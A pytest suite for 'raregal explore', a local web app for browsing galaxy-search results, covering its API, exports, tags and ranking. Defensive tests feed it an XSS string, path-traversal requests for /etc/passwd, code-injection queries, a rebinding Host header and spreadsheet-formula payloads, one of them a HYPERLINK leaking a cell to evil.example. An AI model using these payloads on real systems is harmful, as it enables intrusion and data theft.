"""`raregal explore`: the web app on a small real run folder, over HTTP and in a real
headless Chromium (Playwright driving Debian's chromium, as the report test does).

The run: a seeded search of 800 planted galaxies, 50 of them given real SDSS images
from the bundled demo sample through an image catalogue, one with an id that
is HTML, one with an IAU name and no RA/Dec.
"""

import http.client
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from raregal.cli import main
from raregal.core.errors import InputError
from raregal.explore.data import position_from_name
from raregal.io.export import viewer_layer
from raregal.measure.synthetic import planted_representations
from raregal.method.search import RareClassFinder, search

from .test_demo import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS

uvicorn = pytest.importorskip("uvicorn")
pytest.importorskip("starlette")

XSS = "<img src=x onerror=alert(1)>"
IAU = "J112953.88-000427.4"
N_IMAGES = 50


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory, demo_images):
    """(run folder, image catalogue) of a small seeded search with real images."""
    folder = tmp_path_factory.mktemp("explore")
    table = planted_representations(
        800, dim=16, n_groups=6, group_size=(40, 60), tightness=0.02, seed=1
    )
    rng = np.random.default_rng(0)
    table["ra"] = rng.uniform(0, 360, len(table))
    table["dec"] = rng.uniform(-20, 60, len(table))
    files = sorted(demo_images.glob("*.jpg"))[:N_IMAGES]
    (folder / "images").mkdir()
    members = table.index[table["planted"] >= 0].to_numpy()
    # images spread over the planted groups, so that classes and neighbours have some
    turn = table.loc[members].groupby("planted").cumcount().to_numpy()  # round robin
    chosen = members[np.argsort(turn, kind="stable")][:N_IMAGES]
    ids = table["id_str"].astype(object).to_numpy().copy()
    for row, path in zip(chosen, files):
        shutil.copy(path, folder / "images" / path.name)
        ids[row] = path.stem
    spare = np.setdiff1d(members, chosen)
    ids[spare[0]], ids[spare[1]] = XSS, IAU
    table.loc[spare[1], ["ra", "dec"]] = np.nan
    table["id_str"] = ids
    catalogue = folder / "images.csv"
    pd.DataFrame(
        {"id_str": [p.stem for p in files], "file_loc": [f"images/{p.name}" for p in files]}
    ).to_csv(catalogue, index=False)
    table.to_parquet(folder / "representations.parquet")
    search(
        folder / "representations.parquet",
        folder / "run",
        finder=RareClassFinder(
            n_neighbors=15, init="pca", n_epochs=100, min_samples=15, seed=0, stability_seeds=0
        ),  # reruns: test_credibility
        verbose=False,
    )
    return folder / "run", catalogue


class Served:
    """The explorer app on a free loopback port, in a thread of this process."""

    def __init__(self, run, images, app=None):
        from raregal.explore import build

        self.server = uvicorn.Server(
            uvicorn.Config(app or build(run, images=images), log_level="warning")
        )
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(512)
        self.port = sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(
            target=self.server.run, kwargs={"sockets": [sock]}, daemon=True
        )
        self.thread.start()
        deadline = time.time() + 30
        while not self.server.started and time.time() < deadline:
            time.sleep(0.05)
        assert self.server.started

    def stop(self):
        self.server.should_exit = True
        self.thread.join(timeout=15)


@pytest.fixture(scope="module")
def served(run_folder):
    server = Served(*run_folder)
    yield server
    server.stop()


def raw_get(served, path, host=None):
    """GET a path exactly as written (no client-side normalising of ../ or %2e)."""
    connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
    connection.putrequest("GET", path, skip_host=True)
    connection.putheader("Host", host or f"127.0.0.1:{served.port}")
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response.status, body


def get_json(served, path):
    import json

    status, body = raw_get(served, path)
    assert status == 200, (path, status, body[:200])
    return json.loads(body)


# --- pieces ------------------------------------------------------------------------------


def test_position_from_iau_name():
    ra, dec = position_from_name("J112953.88-000427.4")
    assert ra == pytest.approx(15 * (11 + 29 / 60 + 53.88 / 3600))
    assert dec == pytest.approx(-(0 + 4 / 60 + 27.4 / 3600))
    assert position_from_name("J000000.00+900000.0") == (0.0, 90.0)
    assert position_from_name("synth_0001") is None


def test_without_neighbours_parquet_the_umap_columns_serve(run_folder, tmp_path):
    """A run folder from before neighbours.parquet (and the neighbour index): "more like
    this" falls back to the run's 5-D UMAP, agrees with scikit-learn there, and says so."""
    from sklearn.neighbors import NearestNeighbors

    from raregal.explore.data import RunData

    run = tmp_path / "run"
    shutil.copytree(run_folder[0], run)
    (run / "neighbours.parquet").unlink()
    shutil.rmtree(run / "neighbour_index")
    data = RunData(run)
    assert "umap" in data.neighbour_source
    umap = data.table.filter(like="umap_").to_numpy(np.float32)
    _, expected = NearestNeighbors(n_neighbors=6).fit(umap).kneighbors(umap[7:8])
    assert [r for r, _ in data.neighbours(7, k=5)] == [r for r in expected[0] if r != 7][:5]


def test_class_table_and_colours_follow_the_run_and_the_report(run_folder, tmp_path):
    from raregal.explore.app import NO_CLASS
    from raregal.explore.data import RunData
    from raregal.report.figures import class_colours

    run = tmp_path / "run"
    shutil.copytree(run_folder[0], run)
    summary = pd.read_csv(run / "classes.csv")
    summary["stability"] = np.linspace(0, 1, len(summary))
    summary.to_csv(run / "classes.csv", index=False)
    data = RunData(run)
    table = data.class_table()
    assert [c["letter"] for c in table] == data.order["letter"].tolist()
    by_class = summary.set_index("class")["stability"]
    assert [c["stability"] for c in table] == pytest.approx(by_class[data.order["class"]].tolist())
    assert not any(k.endswith("_fraction") for k in table[0])
    assert NO_CLASS not in class_colours(len(table))  # no class looks like "no class"


def test_a_foreign_neighbours_parquet_is_one_line(run_folder, tmp_path):
    from raregal.explore.data import RunData

    run = tmp_path / "run"
    shutil.copytree(run_folder[0], run)
    shutil.rmtree(run / "neighbour_index")  # a run from before it: neighbours.parquet is read
    pd.DataFrame({"id_str": ["a"], "neighbour_0": ["b"]}).to_parquet(run / "neighbours.parquet")
    with pytest.raises(InputError, match="neighbours.parquet: not a raregal neighbour table"):
        RunData(run)


def test_a_run_without_a_map_is_drawn_from_its_umap(run_folder, tmp_path):
    """A run written without the 2-D map (make_map=False, as injection writes) is drawn
    from its 5-D UMAP's principal components; with neither, one line."""
    from raregal.explore import build
    from raregal.explore.data import RunData

    run = tmp_path / "run"
    shutil.copytree(run_folder[0], run)
    classes = pd.read_parquet(run / "classes.parquet")
    classes.drop(columns=["map_x", "map_y"]).to_parquet(run / "classes.parquet")
    xy = RunData(run).map_xy()
    assert xy.shape == (len(classes), 2) and np.abs(xy).max() <= 1
    assert np.isfinite(xy).all() and xy.std(axis=0).min() > 0
    build(run, images=run_folder[1])  # the app starts on it
    classes.drop(columns=["map_x", "map_y", *classes.filter(like="umap_").columns]).to_parquet(
        run / "classes.parquet"
    )
    with pytest.raises(InputError, match="no map .map_x, map_y. and no umap_. columns"):
        build(run, images=run_folder[1])


def test_a_foreign_neighbours_table_is_named_in_one_line(tmp_path):
    from raregal.io.export import read_neighbours

    # pyarrow's message for a missing column lists the whole schema, a line per field
    pd.DataFrame({"a": range(3), "b": range(3)}).to_parquet(tmp_path / "neighbours.parquet")
    with pytest.raises(
        InputError,
        match="neighbours.parquet: not a raregal neighbour table "
        r"\(No match for FieldRef.Name\(neighbour_rows\)",
    ) as refused:
        read_neighbours(tmp_path / "neighbours.parquet", 3)
    assert "\n" not in str(refused.value)


# --- over HTTP ---------------------------------------------------------------------------


def test_api_card_neighbours_and_thumbnail(served, run_folder):
    from sklearn.neighbors import NearestNeighbors

    classes = pd.read_parquet(run_folder[0] / "classes.parquet")
    info = get_json(served, "/api/run")
    assert info["n"] == len(classes) and len(info["classes"]) >= 3
    assert (
        info["images"]
        == int(classes["id_str"].isin(pd.read_csv(run_folder[1])["id_str"].astype(str)).sum())
        > 20
    )
    assert info["neighbours"].startswith("the run's neighbour index")  # the search's graph
    row = int(np.flatnonzero(classes["id_str"] == IAU)[0])
    card = get_json(served, f"/api/galaxy/{row}")
    assert card["id"] == IAU and card["position_from"] == "name"
    assert card["ra"] == pytest.approx(172.47450) and "layer=ls-dr10" in card["viewer"]
    # "more like this": the exact nearest neighbours in the searched representation
    reps = pd.read_parquet(run_folder[0].parent / "representations.parquet")
    features = reps.set_index("id_str").loc[classes["id_str"]].filter(like="feat_")
    features = features.to_numpy(np.float32)
    distances, expected = (
        NearestNeighbors(n_neighbors=9).fit(features).kneighbors(features[row : row + 1])
    )
    found = get_json(served, f"/api/neighbours/{row}?k=8")["neighbours"]
    assert [n["row"] for n in found] == [r for r in expected[0] if r != row][:8]
    assert [n["distance"] for n in found] == pytest.approx(distances[0][1:], rel=1e-4)
    with_image = int(np.flatnonzero(classes["id_str"] == "100008")[0])
    status, jpeg = raw_get(served, f"/api/thumb/{with_image}?size=128")
    from PIL import Image

    assert status == 200 and Image.open(io.BytesIO(jpeg)).size == (128, 128)
    assert raw_get(served, f"/api/thumb/{row}")[0] == 404  # no image: 404, not an error
    assert raw_get(served, f"/api/thumb/{with_image}?size=9999")[0] == 404


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e%2f%2e%2e%2fpyproject.toml",
        "/static/%2E%2E/%2E%2E/%2E%2E/etc/passwd",
        "/../../../../etc/passwd",
        "/static//etc/passwd",
        "/static/%2Fetc%2Fpasswd",
        "/static/..%5c..%5capp.py",
        "/api/thumb/..%2F..%2Fetc%2Fpasswd",
        "/api/thumb/%2Fetc%2Fpasswd",
        "/api/thumb/-1",
        "/api/thumb/1e3",
        "/api/galaxy/..%2Fclasses.parquet",
        "/run.json",
        "/classes.parquet",
        "/static/run.json",
        "/static/evil-link",
        "/api/thumb/evil-link",
        "/images/100008.jpg",
        "/static/%252e%252e%252fapp.py",
    ],
)
def test_no_request_path_reaches_the_filesystem(served, run_folder, path):
    link = run_folder[0] / "evil-link"
    if not link.is_symlink():
        link.symlink_to("/etc/passwd")
    status, body = raw_get(served, path)
    assert status == 404, (path, status)
    assert b"root:" not in body and b"PAR1" not in body


def post_json(served, path, body, content_type="application/json"):
    import json

    connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
    connection.request("POST", path, json.dumps(body), {"Content-Type": content_type})
    response = connection.getresponse()
    answer = response.read()
    connection.close()
    return response.status, answer


def test_queries_are_conditions_only_and_posts_need_json(served, tmp_path):
    status, answer = post_json(served, "/api/select", {"query": "probability > 0.5"})
    assert status == 200 and b'"total"' in answer
    written = tmp_path / "written.csv"
    for query in (f"map_x.to_csv('{written}')", "__import__('os').getcwd()", "@pd", "map_x[0]"):
        status, answer = post_json(served, "/api/select", {"query": query})
        assert status == 400, query
    assert not written.exists()
    # a form on another site can post text/plain without asking: refused
    assert (
        post_json(
            served,
            "/api/tags",
            {"kind": "class", "target": "A", "tag": "merge"},
            content_type="text/plain",
        )[0]
        == 400
    )


def test_queries_name_class_and_class_letter(run_folder):
    from raregal.explore.data import RunData

    data = RunData(*run_folder)
    in_a = data.query_rows("class_letter == 'A' and probability >= 0")
    assert len(in_a) > 0
    np.testing.assert_array_equal(in_a, np.sort(data.class_rows("A")))
    np.testing.assert_array_equal(
        data.query_rows("class >= 0"), np.flatnonzero(data.table["class"] >= 0)
    )


def test_foreign_host_header_is_refused(served):
    # a page on another site resolving its name to 127.0.0.1 (DNS rebinding)
    assert raw_get(served, "/api/run", host="evil.example")[0] == 400


def test_a_network_host_warns_and_still_checks_the_host_header(run_folder):
    from types import SimpleNamespace

    from raregal.explore import allowed_hosts

    assert allowed_hosts("127.0.0.1") == ["127.0.0.1", "localhost", "[::1]"]
    assert allowed_hosts("192.0.2.7") == ["127.0.0.1", "localhost", "[::1]", "192.0.2.7"]
    assert "*" not in allowed_hosts("0.0.0.0")
    assert socket.gethostname().lower() in allowed_hosts("0.0.0.0")
    # the machine's own addresses, as its interfaces have them (not only its name's)
    import psutil

    own = [
        a.address
        for addresses in psutil.net_if_addrs().values()
        for a in addresses
        if a.family == socket.AF_INET and not a.address.startswith("127.")
    ]
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "raregal.cli",
            "explore",
            str(run_folder[0]),
            "--port",
            "0",
            "--host",
            "0.0.0.0",
        ],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        warning = process.stderr.readline()
        assert warning.startswith("raregal: warning: serving on 0.0.0.0") and "no login" in warning
        assert socket.gethostname() in warning  # the names it answers are said
        line = process.stderr.readline()
        url = line.rsplit("open ", 1)[1].split()[0]
        server = SimpleNamespace(port=int(url.rstrip("/").rsplit(":", 1)[1]))
        assert raw_get(server, "/api/run")[0] == 200
        assert raw_get(server, "/api/run", host=f"{socket.gethostname()}:{server.port}")[0] == 200
        for address in own:  # reached at the address, as a browser elsewhere does
            connection = http.client.HTTPConnection(address, server.port, timeout=30)
            connection.request("GET", "/api/run")
            assert connection.getresponse().status == 200, address
            connection.close()
        if own:  # and the URL to open from elsewhere is said
            assert any(f"http://{a}:{server.port}/ from other machines" in line for a in own), line
        assert raw_get(server, "/api/run", host="evil.example")[0] == 400  # still refused
    finally:
        process.terminate()
        process.wait(timeout=30)


@pytest.mark.slow
def test_load_200_concurrent_requests(served, run_folder):
    """200 requests at once: map data, thumbnails (cold and cached) and neighbours."""
    classes = pd.read_parquet(run_folder[0] / "classes.parquet")
    with_images = np.flatnonzero(
        classes["id_str"].isin(pd.read_csv(run_folder[1])["id_str"].astype(str))
    )
    rng = np.random.default_rng(0)
    paths = []
    for i in range(200):
        kind = i % 3
        if kind == 0:
            paths.append("/api/map")
        elif kind == 1:
            paths.append(f"/api/thumb/{rng.choice(with_images)}?size=128")
        else:
            paths.append(f"/api/neighbours/{rng.integers(len(classes))}?k=12")

    def fetch(path):
        started = time.perf_counter()
        with urllib.request.urlopen(served.url + path, timeout=60) as response:
            response.read()
            return response.status, time.perf_counter() - started

    with ThreadPoolExecutor(max_workers=200) as pool:
        results = list(pool.map(fetch, paths))
    statuses = [s for s, _ in results]
    latency = np.array([t for _, t in results])
    print(
        f"200 concurrent: p50 {np.percentile(latency, 50) * 1000:.0f} ms, "
        f"p95 {np.percentile(latency, 95) * 1000:.0f} ms, errors "
        f"{sum(s != 200 for s in statuses)}"
    )
    assert statuses == [200] * 200


def test_cli_prints_url_binds_loopback_and_refuses_a_bad_folder(run_folder, tmp_path, capsys):
    assert main(["explore", str(tmp_path / "nothing")]) == 2
    assert "no such run folder" in capsys.readouterr().err
    unrelated = tmp_path / "unrelated.csv"
    shutil.copy(run_folder[1].parent / "images" / "100008.jpg", tmp_path / "elsewhere.jpg")
    pd.DataFrame({"id_str": ["not-in-the-run"], "file_loc": ["elsewhere.jpg"]}).to_csv(
        unrelated, index=False
    )
    assert main(["explore", str(run_folder[0]), "--images", str(unrelated)]) == 2
    assert "none of the run's" in capsys.readouterr().err
    # a catalogue's paths stay inside its folder, as for the report
    outside = tmp_path / "outside.csv"
    pd.DataFrame(
        {"id_str": ["100008"], "file_loc": [str(run_folder[1].parent / "images" / "100008.jpg")]}
    ).to_csv(outside, index=False)
    assert main(["explore", str(run_folder[0]), "--images", str(outside)]) == 2
    assert "lead outside" in capsys.readouterr().err
    process = subprocess.Popen(
        [sys.executable, "-m", "raregal.cli", "explore", str(run_folder[0]), "--port", "0"],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        line = process.stderr.readline()
        url = line.rsplit("open ", 1)[1].split()[0]
        assert url.startswith("http://127.0.0.1:") and not url.endswith(":0/")
        with urllib.request.urlopen(url, timeout=30) as response:
            assert b"raregal explore" in response.read()
    finally:
        process.terminate()
        process.wait(timeout=30)


def test_the_demo_ends_by_saying_how_to_explore_its_run(tmp_path, capsys, monkeypatch):
    """The demo's last line is the explore command for its run, ready to paste."""
    import importlib

    from raregal.demo import demo

    embed, search, report = (
        importlib.import_module(f"raregal.{name}")
        for name in ("model.embed", "method.search", "report")
    )
    monkeypatch.setattr(embed, "embed", lambda *a, **k: None)  # the steps: test_demo.py
    monkeypatch.setattr(search, "search", lambda *a, **k: None)
    monkeypatch.setattr(report, "report", lambda run, **k: run / "report" / "index.html")
    demo(tmp_path / "my demo")
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last.endswith(f"raregal explore '{tmp_path / 'my demo' / 'run'}'"), last


# --- odd requests: 4xx, never 5xx ------------------------------------------------------------


@pytest.fixture(scope="module")
def small_served(tmp_path_factory):
    """The explorer on a hand-made run of 60 galaxies in 3 classes (no search, no images)."""
    from .run_folders import small_run

    run = tmp_path_factory.mktemp("explore-small") / "run"
    small_run(run)
    server = Served(run, None)
    yield server
    server.stop()


def raw_request(served, method, path, body=None):
    """(status, body) of a request sent exactly as written, JSON body as given (bytes)."""
    connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
    connection.putrequest(method, path, skip_host=True)
    connection.putheader("Host", f"127.0.0.1:{served.port}")
    if body is not None:
        connection.putheader("Content-Type", "application/json")
        connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    response = connection.getresponse()
    answer = response.read()
    connection.close()
    return response.status, answer


#: Path parts a row, tag id, class, column, key or format never is: unicode digits
#: (str.isdigit() is true for ², int() refuses it), numbers beyond int64, NUL,
#: bytes that are not UTF-8, a lone surrogate, traversal, very long.
ODD_PARTS = [
    "%C2%B2",
    "%D9%A3",
    "%EF%BC%91",
    "1" * 30,
    "9" * 400,
    "-1",
    "+1",
    "1e3",
    "0x10",
    "1.5",
    "NaN",
    "%00",
    "1%00",
    "%FF",
    "%ED%A0%80",
    "%E2%80%AE",
    "..%2F..%2Fetc",
    "..",
    "%2e%2e",
    "%20",
    "a" * 5000,
    "0",
    "59",
    "60",
]
ODD_BODIES = [
    '{"rows": ["\\u00b2"]}',
    '{"rows": [1e400]}',
    '{"rows": [100000000000000000000000]}',
    '{"rows": [[1]]}',
    '{"rows": {"a": 1}}',
    '{"rows": [0.5]}',
    '{"class": "\\ud800"}',
    '{"class": ["A"]}',
    '{"query": "\\ud800 > 1"}',
    '{"query": "' + "(" * 5000 + '"}',
    '{"kind": "galaxy", "target": "g000", "tag": "note", "note": "\\ud800"}',
    '{"kind": "galaxy", "target": "\\ud800", "tag": "note"}',
    '{"kind": "\\u0000", "target": "A", "tag": "note"}',
    "[" * 100_000,
    '"\\ud800"',
    "\\xff\\xfe",
    '{"rows": []}',
    '{"k": 1e400}',
    '{"k": "\\ud800"}',
    '{"k": [[1]]}',
    '{"k": 100000000000000000000000}',
]


def test_every_route_answers_odd_input_with_4xx_never_5xx(small_served):
    """Every route, every method, with each odd path part in each of its places, odd
    query values and odd JSON bodies: a client error or an answer, never a 500."""
    from starlette.routing import Route

    routes = [r for r in small_served.server.config.app.routes if isinstance(r, Route)]
    query = "?" + "&".join(
        f"{name}={value}"
        for name in ("page", "k", "size", "kind", "target", "id")
        for value in ("%C2%B2", "1" * 30, "%ED%A0%80")
    )
    failures = []
    for route in routes:
        for method in sorted(route.methods - {"HEAD"}):
            params = list(route.param_convertors)
            for odd in ODD_PARTS:
                path = route.path
                for name in params:
                    path = path.replace("{" + name + "}", odd)
                for suffix in ("", query):
                    bodies = ODD_BODIES if method == "POST" else [None]
                    for body in bodies:
                        status, _ = raw_request(
                            small_served,
                            method,
                            path + suffix,
                            None if body is None else body.encode(),
                        )
                        if status >= 500:
                            failures.append(
                                (method, (path + suffix)[:80], body and body[:40], status)
                            )
                if not params:
                    break
    status, answer = raw_request(small_served, "POST", "/api/select", b'{"class": "A"}')
    assert status == 200
    key = json.loads(answer)["selection"]
    for odd in ODD_PARTS:  # the page and the format of a selection that exists
        for path in (f"/api/selection/{key}?page={odd}", f"/api/selection/{key}/export.{odd}"):
            status, _ = raw_request(small_served, "GET", path)
            if status >= 500:
                failures.append(("GET", path[:80], None, status))
    assert not failures, "\n".join(map(str, failures))


def test_exports_are_named_for_the_run_and_the_selection(tmp_path):
    """A download's name says which run and which selection it holds, in characters
    any file system and header take."""
    from .run_folders import small_run

    run = tmp_path / 'sérïe "7"' / "run"
    run.parent.mkdir()
    small_run(run)
    server = Served(run, None)
    names = {}
    try:
        for body, kind in (
            ({"class": "B"}, "csv"),
            ({"rows": [3, 1, 4, 1]}, "fits"),
            ({"query": "probability > 0.9 and map_x < 0"}, "vot"),
        ):
            answer = raw_request(server, "POST", "/api/select", json.dumps(body).encode())[1]
            key = json.loads(answer)["selection"]
            connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
            connection.request("GET", f"/api/selection/{key}/export.{kind}")
            response = connection.getresponse()
            names[kind] = response.getheader("Content-Disposition")
            response.read()
            connection.close()
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        connection.request("GET", "/api/tags.csv")
        names["tags"] = connection.getresponse().getheader("Content-Disposition")
        connection.close()
    finally:
        server.stop()
    assert names == {
        "csv": 'attachment; filename="s_r_e_7-run-class-B.csv"',
        "fits": 'attachment; filename="s_r_e_7-run-lasso-3.fits"',
        "vot": 'attachment; filename="s_r_e_7-run-query-probability_0.9_and_map_x_0.xml"',
        "tags": 'attachment; filename="s_r_e_7-run-tags.csv"',
    }


def test_a_selection_with_text_fits_cannot_hold_is_a_client_error(tmp_path):
    """A non-ASCII id, in a run folder with a non-ASCII name: CSV and VOTable export it,
    FITS (ASCII text only) exports it or answers 422 saying what to use, never 500."""
    from .run_folders import small_run

    run = tmp_path / "rün"
    small_run(run)
    classes = pd.read_parquet(run / "classes.parquet")
    classes.loc[0, "id_str"] = "gäl☃"  # the writer's own FITS cannot take it (issue 39)
    classes.to_parquet(run / "classes.parquet")
    server = Served(run, None)
    try:
        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
        answers = {
            kind: raw_request(server, "GET", f"/api/selection/{key['selection']}/export.{kind}")
            for kind in ("csv", "vot", "fits")
        }
    finally:
        server.stop()
    assert answers["csv"][0] == answers["vot"][0] == 200
    assert "gäl☃" in answers["csv"][1].decode() and "gäl☃" in answers["vot"][1].decode()
    status, body = answers["fits"]
    assert status == 200 or (status == 422 and b"export CSV or VOTable" in body), (status, body)


def test_a_tag_file_that_is_not_a_database_is_one_line_at_start(tmp_path):
    """explore-tags.sqlite holding something else: refused when the explorer starts
    (it answered 500 to every tag request), and the file is left as it was."""
    from raregal.explore import build

    from .run_folders import small_run

    run = tmp_path / "run"
    small_run(run)
    (run / "explore-tags.sqlite").write_text("not a database " * 100)
    with pytest.raises(InputError, match="explore-tags.sqlite: not a raregal tag database"):
        build(run)
    assert (run / "explore-tags.sqlite").read_text() == "not a database " * 100


def test_a_tagged_run_reopens_from_a_relative_path(tmp_path, monkeypatch):
    """`raregal explore raregal-demo/run` on a run already tagged: the start-up check of
    the tag file named it as a file URI, which a relative path cannot be."""
    from raregal.explore import build
    from raregal.explore.tags import TagStore

    from .run_folders import small_run

    small_run(tmp_path / "run")
    TagStore(tmp_path / "run").add("galaxy", "a", "interesting", "")
    monkeypatch.chdir(tmp_path)
    build(Path("run"))  # raised ValueError: relative path can't be expressed as a file URI


#: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path):
    """A tag's note and ids that start like a formula reach tags.csv and a selection's
    CSV with a leading quote; the tag store keeps the real text; a numeric id stays."""
    from raregal.explore.tags import TagStore

    from .run_folders import small_run

    ids = [f"g{i:03d}" for i in range(60)]
    ids[:4] = [FORMULA_ID, "-5", "+cmd|' /C calc'!A0", "\t=1+1"]
    run = tmp_path / "run"
    small_run(run, ids=ids)
    server = Served(run, None)
    try:
        body = json.dumps(
            {"kind": "galaxy", "target": FORMULA_ID, "tag": "note", "note": FORMULA_NOTE}
        ).encode()
        assert raw_request(server, "POST", "/api/tags", body)[0] == 200
        status, answer = raw_request(server, "GET", "/api/tags.csv")
        tags = pd.read_csv(io.BytesIO(answer), dtype=str)
        assert status == 200 and tags.loc[0, "note"] == "'" + FORMULA_NOTE
        assert tags.loc[0, "target"] == "'" + FORMULA_ID
        assert TagStore(run).list()[0]["note"] == FORMULA_NOTE  # the real text is kept
        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
        status, answer = raw_request(server, "GET", f"/api/selection/{key['selection']}/export.csv")
        exported = pd.read_csv(io.BytesIO(answer), dtype={"id_str": str}, keep_default_na=False)
    finally:
        server.stop()
    assert sorted(exported["id_str"]) == sorted(
        ["'" + FORMULA_ID, "-5", "'+cmd|' /C calc'!A0", "'\t=1+1", *ids[4:10]]
    )
    classes = pd.read_parquet(run / "classes.parquet").iloc[:10]
    assert sorted(exported["probability"]) == sorted(classes["probability"])  # numbers as they are


# --- suggest next: the loop of tags and rankings --------------------------------------------


def ranked_run(folder, ids=None):
    """A small run (tests/run_folders.small_run: classes A, B, C of rows 0-9, 10-19, 20-29,
    30 galaxies in no class) whose run.json names a representation table of its
    galaxies: 8 features, each class a tight group in a wide bulk; rarity grows with the
    row (the rarest: rows 59, 58, …)."""
    from .run_folders import small_run

    ids = [f"g{i:03d}" for i in range(60)] if ids is None else ids
    rng = np.random.default_rng(1)
    group = np.r_[np.repeat([0, 1, 2], 10), np.full(30, 3)]
    features = (rng.normal(size=(4, 8)) * 5)[group] + rng.normal(size=(60, 8)) * np.where(
        group < 3, 0.1, 3
    )[:, None]
    table = pd.DataFrame(features, columns=[f"feat_{i}" for i in range(8)])
    table.insert(0, "id_str", ids)
    table.to_parquet(folder / "representations.parquet")
    run = folder / "run"
    small_run(
        run,
        ids=ids,
        run={
            "inputs": {
                "representations": {"path": str((folder / "representations.parquet").resolve())}
            }
        },
    )
    classes = pd.read_parquet(run / "classes.parquet")
    classes["rarity"] = np.arange(60) / 60
    classes.to_parquet(run / "classes.parquet")
    return run, features


def tag(server, target, name):
    body = json.dumps({"kind": "galaxy", "target": target, "tag": name}).encode()
    assert raw_request(server, "POST", "/api/tags", body)[0] == 200


def suggest(server, expect=200):
    status, answer = raw_request(server, "POST", "/api/suggest", b"{}")
    assert status == expect, answer
    return json.loads(answer)


def shown(view, number):
    return [g["id"] for g in view["rounds"][number - 1]["galaxies"]]


def test_suggestion_rounds_are_a_table_beside_an_older_tag_file(tmp_path):
    """A tag file from before the rounds: its tags table is left as it was, the rounds
    table is added, and rounds asked at once get numbers of their own."""
    import sqlite3

    from raregal.explore.tags import TagStore

    old = (
        "CREATE TABLE tags (id INTEGER PRIMARY KEY AUTOINCREMENT, kind TEXT NOT NULL, "
        "target TEXT NOT NULL, tag TEXT NOT NULL, note TEXT NOT NULL DEFAULT '', "
        "created TEXT NOT NULL, removed TEXT)"
    )
    with sqlite3.connect(tmp_path / "explore-tags.sqlite") as db:
        db.execute(old)
        db.execute(
            "INSERT INTO tags (kind, target, tag, note, created) VALUES "
            "('galaxy', 'g001', 'interesting', 'old', '2026-01-01T00:00:00+00:00')"
        )
    db.close()
    store = TagStore(tmp_path)
    with ThreadPoolExecutor(4) as pool:
        numbers = list(
            pool.map(lambda i: store.add_round([f"g{i}", "g9"], [2.0, 1.0], "rank", 1, 0), range(4))
        )
    assert sorted(numbers) == [1, 2, 3, 4]
    rounds = store.rounds()
    assert [(r["round"], r["position"]) for r in rounds] == [
        (n, p) for n in (1, 2, 3, 4) for p in (1, 2)
    ]
    first = {r["round"]: r["target"] for r in rounds if r["position"] == 1}
    assert sorted(first.values()) == ["g0", "g1", "g2", "g3"]
    assert [(t["target"], t["note"]) for t in store.list()] == [("g001", "old")]
    with closing(sqlite3.connect(tmp_path / "explore-tags.sqlite")) as db:
        schema = db.execute("SELECT sql FROM sqlite_master WHERE name = 'tags'").fetchone()[0]
    assert schema == old


def test_labels_come_from_galaxy_and_class_tags_and_what_was_passed_over(tmp_path):
    from raregal.explore.data import RunData
    from raregal.explore.suggest import labels

    from .run_folders import small_run

    small_run(tmp_path / "run")
    data = RunData(tmp_path / "run")
    tags = [
        {"kind": "class", "target": "B", "tag": "interesting"},  # rows 10-19
        {"kind": "galaxy", "target": "g012", "tag": "artifact"},  # its own tag wins
        {"kind": "galaxy", "target": "g040", "tag": "interesting"},
        {"kind": "galaxy", "target": "g041", "tag": "interesting"},
        {"kind": "galaxy", "target": "g041", "tag": "not real"},  # both: negative
        {"kind": "galaxy", "target": "g045", "tag": "note"},  # looked at: left out
        {"kind": "class", "target": "A", "tag": "merge"},
    ]  # says nothing of A's kind
    like, unlike, leave_out = labels(data, tags, shown=np.array([40, 50, 51]))
    assert like.tolist() == [10, 11, *range(13, 20), 40]
    assert unlike.tolist() == [12, 41, 50, 51]  # 50, 51: shown and not tagged interesting
    assert leave_out.tolist() == sorted([*like, *unlike, 45])


def test_suggest_next_ranks_from_the_tags_and_resumes_after_a_restart(tmp_path):
    """Round 1 (no positive yet): the rarest galaxies. Two of class B tagged interesting
    and a round-1 galaxy not real: round 2 is raregal.rank's top 10 from those labels,
    the rest of class B first, nothing shown or tagged before. After a restart the
    rounds and their yields are read back, round 3 leaves out every galaxy shown or
    tagged, and rounds.csv has each suggestion with its tags, spreadsheet-safe."""
    from raregal.method.rank import scores, standardise, top_rows

    ids = [f"g{i:03d}" for i in range(59)] + [FORMULA_ID]
    run, features = ranked_run(tmp_path, ids)
    server = Served(run, None)
    try:
        view = get_json(server, "/api/suggest")
        assert view["rounds"] == [] and "rarest" in view["start"] and view["problem"] is None
        first = suggest(server)
        assert shown(first, 1) == ids[50:][::-1]  # rarity grows with the row
        assert first["rounds"][0]["basis"] == "rarity"
        tag(server, "g010", "interesting")
        tag(server, "g011", "interesting")
        tag(server, "g055", "not real")
        second = suggest(server)
    finally:
        server.stop()
    like, unlike = [10, 11], list(range(50, 60))
    expected = top_rows(scores(standardise(features), like, unlike), like + unlike, 10)
    assert shown(second, 2) == [ids[r] for r in expected]
    assert set(shown(second, 2)[:8]) == {f"g0{i}" for i in range(12, 20)}  # class B
